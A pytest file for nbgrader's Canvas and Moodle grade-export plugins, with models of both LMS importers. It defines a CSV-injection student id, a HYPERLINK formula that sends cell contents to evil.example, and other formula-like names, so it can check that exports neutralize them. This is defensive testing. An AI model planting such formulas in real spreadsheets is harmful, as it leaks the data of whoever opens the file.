"""The LMS exporters (autograder/tools/export.py) run as nbgrader's own ``nbgrader export``, and
their files read by models of Canvas's and Moodle's importers.

The gradebook is written through nbgrader's API with hand-picked contents. The two importer
models below are written from the importers' own source, each rule with the function it comes
from, not from the module under test:

* Canvas: ``app/models/gradebook_importer.rb`` (instructure/canvas-lms);
* Moodle: ``grade/import/csv/classes/load_data.php`` and the mapping form of
  ``grade/import/grade_import_form.php`` (moodle/moodle).

The models are themselves tested on hand-written fixtures (an unknown row aborts Moodle's
import, an empty cell clears a grade, a bare column name creates a Canvas assignment).
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT

#: Canvas Instructor Guide, "How do I import grades in the Gradebook?": the columns of its
#: gradebook export that an import needs, then the assignments; a "Points Possible" row.
CANVAS = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
#: MoodleDocs, "Grade import" / "Grade export": the user columns of the CSV export, then
#: "<activity type>: <name> (Real)" for each grade item.
MOODLE = ["First name", "Last name", "ID number", "Institution", "Department", "Email address"]

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")'


class ImportAborted(Exception):
    """The importer refused the whole file (Moodle's cleanup_import, Canvas's InvalidHeaderRow)."""


# ----------------------------------------------------------------------------- Moodle's importer
def moodle_import(text: str, map_from: str, map_to: str, users: dict[str, dict],
                  columns: dict[str, str]) -> dict[tuple[str, str], float | None]:
    """What Moodle's CSV grade import does with ``text``: ``{(user, item): finalgrade}``.

    ``users`` maps a Moodle user to its fields (``idnumber``, ``email``); ``columns`` maps a
    CSV header to a grade item (the *Grade item mappings* of the form; others are "ignore").
    """
    fields = {"useridnumber": "idnumber", "useremail": "email"}  # map_user_data_with_value
    rows = list(csv.reader(io.StringIO(text)))
    header = [h.strip() for h in rows[0]]  # trim_headers
    key = header.index(map_from)  # $map[$formdata->mapfrom] = $formdata->mapto
    grades: dict[tuple[str, str], float | None] = {}
    student = None
    for line in rows[1:]:
        if len(line) <= 1:  # prepare_import_grade_data: "There is no data on this line"
            continue
        line = [v.strip() for v in line]
        value = line[key]
        # map_user_data_with_value: "Skip invalid row with blank user field." -- the previous
        # row's $this->studentid stays.
        if value:
            found = [u for u, f in users.items() if f.get(fields[map_to]) == value]
            if not found:  # check_user_exists -> cleanup_import(usermappingerror)
                raise ImportAborted(f"usermappingerror: {fields[map_to]} {value!r}")
            student = found[0]
        if student is None:  # "User not found, abort whole import" (usermappingerrorusernotfound)
            raise ImportAborted("usermappingerrorusernotfound")
        for column, item in columns.items():
            cell = line[header.index(column)]
            # update_grade_item: '' or '-' -> null ("No grade"); else a number or badgrade
            if cell in ("", "-"):
                grades[(student, item)] = None
            elif re.fullmatch(r"-?\d+(\.\d+)?", cell):
                grades[(student, item)] = float(cell)
            else:
                raise ImportAborted(f"badgrade {cell!r}")
    return grades


# ----------------------------------------------------------------------------- Canvas's importer
def canvas_import(text: str, assignments: dict[int, str], login_ids: set[str]) -> dict:
    """What Canvas's gradebook importer reads from ``text``: the columns matched to existing
    assignments (by id or title), the new ones it would create, points possible, the students
    found by SIS Login ID and the unknown ones, and the grades."""
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    # row_has_student_headers?: row[0] includes "Student" and row[1] includes "ID"
    if not (len(header) > 3 and "Student" in header[0] and "ID" in header[1]):
        raise ImportAborted("InvalidHeaderRow")
    # update_column_count: "SIS User ID" then "SIS Login ID" add two identity columns (5 in
    # all); header?: the last identity column must include "Section"
    n_identity = 5 if re.search(r"SIS\s+User\s+ID", header[2]) else 3
    if "Section" not in header[n_identity - 1]:
        raise ImportAborted("InvalidHeaderRow")
    matched, new = {}, []
    for index, column in enumerate(header[n_identity:], start=n_identity):
        # parse_assignments: Assignment.title_and_id ("Title (123)") by id, then by exact title
        m = re.fullmatch(r"(.*)\s+\((\d+)\)", column)
        by_id = int(m.group(2)) if m and int(m.group(2)) in assignments else None
        by_title = next((i for i, t in assignments.items() if t == column), None)
        if by_id is not None or by_title is not None:
            matched[index] = by_id if by_id is not None else by_title
        else:
            new.append(column)  # Assignment.new(title: ...): a new assignment on import
    result = {"matched": matched, "new": new, "points": {}, "students": [], "unknown": [],
              "grades": {}}
    for line in rows[1:]:
        if "Points Possible" in line[0]:  # check_for_non_student_row -> process_pp
            result["points"] = {matched.get(i, i): line[i] for i in range(n_identity, len(line))}
            continue
        login = line[3]  # process_student: the pseudonym by SIS Login ID
        (result["students"] if login in login_ids else result["unknown"]).append(login)
        for index, assignment in matched.items():
            result["grades"][(login, assignment)] = line[index].strip()
    return result


def test_the_moodle_model_aborts_on_unknown_rows_and_clears_on_empty_cells():
    users = {"u1": {"idnumber": "S1", "email": "a@x"}, "u2": {"idnumber": "S2", "email": ""}}
    head = ",".join(MOODLE) + ",Assignment: a1 (Real)\n"
    ok = head + "Ada,L,S1,,,a@x,3\nBen,F,S2,,,,\n"
    assert moodle_import(ok, "ID number", "useridnumber", users, {"Assignment: a1 (Real)": "a1"}) \
        == {("u1", "a1"): 3.0, ("u2", "a1"): None}
    with pytest.raises(ImportAborted, match="usermappingerror"):
        moodle_import(head + "D,,demo_ada,,,,7\n", "ID number", "useridnumber", users,
                      {"Assignment: a1 (Real)": "a1"})
    # a blank mapping cell keeps the previous row's student: ben's 5 lands on ada
    assert moodle_import(head + "Ada,L,S1,,,a@x,3\nBen,F,,,,,5\n", "ID number", "useridnumber",
                         users, {"Assignment: a1 (Real)": "a1"}) == {("u1", "a1"): 5.0}


def test_the_canvas_model_matches_by_id_then_title_and_creates_the_rest():
    text = ",".join(CANVAS) + ",Quiz (17),Essay,Other\nPoints Possible,,,,,5,10,3\n" \
        "\"L, A\",,,ada,,4,8,1\n"
    got = canvas_import(text, {17: "Quiz", 18: "Essay"}, {"ada"})
    assert got["matched"] == {5: 17, 6: 18} and got["new"] == ["Other"]
    assert got["points"][17] == "5" and got["grades"][("ada", 18)] == "8"
    with pytest.raises(ImportAborted):
        canvas_import("Name,Login,Quiz\n", {}, set())


# ----------------------------------------------------------------------------- the gradebook
def _gradebook(db_url: str) -> None:
    """a1: two test cells worth 1 and 2; a2: one worth 5; a3: never graded. Students:

    ada (roster: lms_user_id S1, email): a1 1 + 2 = 3, a2 4;
    ben (roster: email only): a1 1 with a late penalty of 0.5 -> 0.5, nothing for a2;
    cyd (roster: lms_user_id S3): nothing for a1, a2 submitted and scored 0;
    auto (created by grading: an id only): a1 2;
    HOSTILE_ID (lms_user_id S9, names that are formulas): a1 0.
    """
    import warnings

    from nbgrader.api import Gradebook
    from sqlalchemy.exc import SAWarning

    with Gradebook(db_url) as gb, warnings.catch_warnings():
        warnings.simplefilter("ignore", SAWarning)  # nbgrader's own autoflush quirk (add_submission)
        for name, cells in (("a1", {"t1": 1, "t2": 2}), ("a2", {"t3": 5}), ("a3", {"t4": 1})):
            gb.update_or_create_assignment(name)
            gb.update_or_create_notebook(name, name)
            for cell, pts in cells.items():
                gb.update_or_create_grade_cell(cell, name, name, max_score=pts, cell_type="code")
        gb.add_student("ada", first_name="Ada", last_name="Lovelace", email="ada@example.org",
                       lms_user_id="S1")
        gb.add_student("ben", first_name="Ben", last_name="Franklin", email="ben@example.org")
        gb.add_student("cyd", lms_user_id="S3")
        gb.add_student("auto")
        gb.add_student(HOSTILE_ID, first_name="@SUM(1+1)", last_name="+1-1", lms_user_id="S9")
        given = {("ada", "a1"): {"t1": 1, "t2": 2}, ("ada", "a2"): {"t3": 4},
                 ("ben", "a1"): {"t1": 1, "t2": 0}, ("cyd", "a2"): {"t3": 0},
                 ("auto", "a1"): {"t1": 0, "t2": 2}, (HOSTILE_ID, "a1"): {"t1": 0, "t2": 0}}
        for (student, assignment), scores in given.items():
            gb.add_submission(assignment, student)
            nb = gb.find_submission_notebook(assignment, assignment, student)
            for grade in nb.grades:
                grade.auto_score = scores[grade.name]
            if student == "ben":
                nb.late_submission_penalty = 0.5
        gb.db.commit()


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A course directory holding only the gradebook and a config that finds this repository's
    ``autograder`` package, as the course's own nbgrader_config.py does."""
    root = tmp_path_factory.mktemp("export")
    (root / "nbgrader_config.py").write_text(
        f"import sys\nsys.path.insert(0, {str(ROOT)!r})\nc = get_config()\n"
        f"c.CourseDirectory.root = {str(root)!r}\n"
        "c.CanvasExport.assignment_ids = {'a1': 101}\n"
        "c.CanvasExport.assignment_titles = {'a1': 'Standardization', 'a2': 'BatchNorm forward'}\n")
    _gradebook(f"sqlite:///{root / 'gradebook.db'}")
    return root


def export(root: Path, exporter: str, *args: str, to: str | None = None) -> tuple[str, str]:
    """Run ``nbgrader export --exporter=autograder.tools.export.<exporter>``; the file's text
    and nbgrader's log."""
    dest = root / (to or f"{exporter}.csv")
    result = subprocess.run(
        [str(Path(sys.executable).parent / "nbgrader"), "export",
         f"--exporter=autograder.tools.export.{exporter}", f"--to={dest}", *args],
        cwd=root, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    return (dest.read_text(encoding="utf-8") if dest.exists() else ""), result.stdout + result.stderr


def test_canvas_columns_are_matched_by_id_or_exact_title_with_points_possible(course):
    text, log = export(course, "CanvasExport")
    rows = list(csv.reader(io.StringIO(text)))
    # only the graded assignments (a3 has no submission); a1 by its id, a2 by its title
    assert rows[0] == [*CANVAS, "Standardization (101)", "BatchNorm forward"]
    assert rows[1] == ["Points Possible", "", "", "", "", "3", "5"]
    canvas = canvas_import(text, {101: "Standardization", 102: "BatchNorm forward"},
                           {"ada", "ben", "cyd", "auto"})
    assert canvas["new"] == [] and sorted(canvas["matched"].values()) == [101, 102]
    assert canvas["points"] == {101: "3", 102: "5"}
    assert canvas["grades"][("ada", 101)] == "3" and canvas["grades"][("ada", 102)] == "4"
    assert canvas["grades"][("ben", 101)] == "0.5" and canvas["grades"][("cyd", 102)] == "0"
    assert "No Canvas id for a2" in log


def test_canvas_keeps_to_the_assignment_asked_for_and_leaves_out_who_did_not_submit(course):
    text, _ = export(course, "CanvasExport", "--ExportPlugin.assignment=['a2']")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [*CANVAS, "BatchNorm forward"]
    assert [(row[3], row[5]) for row in rows[2:]] == [("ada", "4"), ("cyd", "0")]  # no blank


def test_moodle_file_imports_without_error_and_holds_only_roster_students(course):
    text, log = export(course, "MoodleExport", "--ExportPlugin.assignment=['a1']")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [*MOODLE, "Assignment: a1 (Real)"]
    # Moodle's users: the roster's ID numbers; "auto" (created by grading) has none
    users = {"ada": {"idnumber": "S1"}, "cyd": {"idnumber": "S3"}, "mal": {"idnumber": "S9"}}
    grades = moodle_import(text, "ID number", "useridnumber", users,
                           {"Assignment: a1 (Real)": "a1"})
    # cyd submitted nothing for a1: no row, so no "No grade" over a grade entered in Moodle
    assert grades == {("ada", "a1"): 3.0, ("mal", "a1"): 0.0}
    assert "auto" in log and "ben" in log  # left out, and named


def test_moodle_by_email_and_one_file_per_assignment(course):
    _, log = export(course, "MoodleExport", "--MoodleExport.map_from=Email address",
                    to="moodle.csv")
    files = {p.name: p.read_text() for p in course.glob("moodle_*.csv")}
    assert sorted(files) == ["moodle_a1.csv", "moodle_a2.csv"], log
    users = {"ada": {"email": "ada@example.org"}, "ben": {"email": "ben@example.org"}}
    assert moodle_import(files["moodle_a1.csv"], "Email address", "useremail", users,
                         {"Assignment: a1 (Real)": "a1"}) == {("ada", "a1"): 3.0,
                                                             ("ben", "a1"): 0.5}
    assert moodle_import(files["moodle_a2.csv"], "Email address", "useremail", users,
                         {"Assignment: a2 (Real)": "a2"}) == {("ada", "a2"): 4.0}


def test_every_student_controlled_cell_is_neutralized(course):
    """OWASP CSV injection: ids and names from the roster never start a formula."""
    canvas, _ = export(course, "CanvasExport")
    moodle, _ = export(course, "MoodleExport", "--ExportPlugin.assignment=['a1']")
    for text in (canvas, moodle):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + HOSTILE_ID in [c for row in csv.reader(io.StringIO(canvas)) for c in row]
    moodle_cells = [c for row in csv.reader(io.StringIO(moodle)) for c in row]
    assert "'@SUM(1+1)" in moodle_cells and "'+1-1" in moodle_cells


def test_unknown_assignment_and_bad_id_column_are_refused(course):
    from nbgrader.api import Gradebook

    from autograder.tools.export import CanvasExport

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        with pytest.raises(ValueError, match="id_column"):
            CanvasExport(id_column="Email", to=str(course / "bad.csv")).export(gb)
        with pytest.raises(ValueError, match="zz"):
            CanvasExport(assignment=["zz"], to=str(course / "bad.csv")).export(gb)


def test_neutralize_follows_owasp():
    from autograder.tools.csv_safe import neutralize

    for bad in ("=1+1", "+1-1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1"):
        assert neutralize(bad) == "'" + bad
    assert [neutralize(v) for v in ("ada", "9.5", 3, 0.5, None, "a=b")] == \
        ["ada", "9.5", "3", "0.5", "", "a=b"]
    with pytest.raises(TypeError, match="value"):
        neutralize(b"=1")
